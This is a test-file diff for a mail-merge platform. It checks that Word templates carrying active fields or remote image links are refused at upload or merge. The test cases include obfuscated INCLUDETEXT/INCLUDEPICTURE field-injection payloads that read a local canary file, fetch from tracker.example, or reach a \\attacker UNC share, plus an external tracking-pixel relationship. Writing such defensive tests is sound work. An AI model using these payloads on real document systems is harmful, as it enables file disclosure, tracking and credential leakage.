@@ -563,3 +563,116 @@ async def test_documents_changes_are_audited(
         return actions if len(actions) == 2 else None
 
     assert await eventually(trail) == ["sent", "created"]
+
+
+# Active content: refused at upload, and again in every merged document.
+
+EXTERNAL_LINK = (
+    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'relationships/hyperlink" Target="http://tracker.example/pixel.png" TargetMode="External"/>'
+)
+
+
+def edited(content: bytes, run: bytes, link: bool = False) -> bytes:
+    """``content`` (made by word_template("Bonjour")) whose run is ``run``; with ``link``, its
+    relationships hold rId99, an external hyperlink to tracker.example."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w") as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "word/document.xml":
+                assert b"<w:r><w:t>Bonjour</w:t></w:r>" in data
+                data = data.replace(b"<w:r><w:t>Bonjour</w:t></w:r>", run)
+            elif item.filename == "word/_rels/document.xml.rels" and link:
+                data = data.replace(b"</Relationships>", EXTERNAL_LINK + b"</Relationships>")
+            target.writestr(item, data)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("run", "field"),
+    [
+        (  # the security tester's template
+            b"<w:r><w:instrText> {{ 'INCL' ~ 'UDETEXT' }} \"/tmp/pt/canary.txt\" </w:instrText>"
+            b"</w:r>",
+            "INCLUDETEXT",
+        ),
+        (
+            b"<w:r><w:instrText>{{ 'INCL' ~ 'UDEPICTURE' }} \"http://tracker.example/p.png\" \\d"
+            b"</w:instrText></w:r>",
+            "INCLUDEPICTURE",
+        ),
+        (
+            b"<w:fldSimple w:instr=\"{{ 'INCL' ~ 'UDETEXT' }} &quot;\\\\attacker\\share\\x&quot;\"/>",
+            "INCLUDETEXT",
+        ),
+    ],
+)
+async def test_a_field_the_template_builds_is_refused_at_merge_never_delivered(
+    platform: Platform, admin: Headers, customer: dict[str, Any], run: bytes, field: str
+) -> None:
+    status, template = await upload(platform, admin, edited(word_template("Bonjour"), run))
+    assert status == 201, template  # the field only exists once rendered
+
+    async def answered() -> tuple[int, bytes] | None:
+        status, body, _ = await merge_account(
+            platform, admin, customer["id"], {"template_id": template["id"]}
+        )
+        return None if status == 404 else (status, body)  # 404: not replicated yet
+
+    async def bulk(output: str) -> tuple[int, bytes]:
+        async with platform.http.post(
+            f"{platform.gateway}/api/v1/mail-merge",
+            json={"template_id": template["id"], "account_ids": [customer["id"]], "format": output},
+            headers=admin,
+        ) as response:
+            return response.status, await response.read()
+
+    pdf = await merge_account(
+        platform, admin, customer["id"], {"template_id": template["id"], "format": "pdf"}
+    )
+    for status, body in (
+        await eventually(answered),
+        pdf[:2],
+        await bulk("docx"),
+        await bulk("pdf"),
+    ):
+        assert status == 422, body[:200]
+        assert not body.startswith(b"PK")  # no document, no zip
+        problem = orjson.loads(body)
+        assert [e["field"] for e in problem["errors"]] == ["file"]
+        assert f"Le document produit contiendrait un champ {field}" in problem["detail"]
+
+
+async def test_a_picture_fetched_through_a_hyperlink_relationship_is_refused_at_upload(
+    platform: Platform, admin: Headers
+) -> None:
+    blip = (
+        b'<w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/'
+        b'main" r:link="rId99"/></w:drawing></w:r>'
+    )
+    status, problem = await upload(platform, admin, edited(word_template("Bonjour"), blip, True))
+    assert status == 422, problem
+    assert [e["field"] for e in problem["errors"]] == ["file"]
+    assert "http://tracker.example/pixel.png" in problem["detail"]
+    assert "a:blip/@link" in problem["detail"]
+
+
+async def test_a_template_with_a_hyperlink_is_accepted_and_merged(
+    platform: Platform, admin: Headers, customer: dict[str, Any]
+) -> None:
+    link = (
+        b'<w:hyperlink r:id="rId99"><w:r><w:t>Site de {{ compte.name }}</w:t></w:r></w:hyperlink>'
+    )
+    status, template = await upload(platform, admin, edited(word_template("Bonjour"), link, True))
+    assert status == 201, template
+
+    async def merged() -> bytes | None:
+        status, body, _ = await merge_account(
+            platform, admin, customer["id"], {"template_id": template["id"]}
+        )
+        return body if status == 200 else None
+
+    document = docx.Document(io.BytesIO(await eventually(merged)))
+    assert document.paragraphs[0].hyperlinks[0].address == "http://tracker.example/pixel.png"
+    assert document.paragraphs[0].hyperlinks[0].text == "Site de Éditions du Léman"
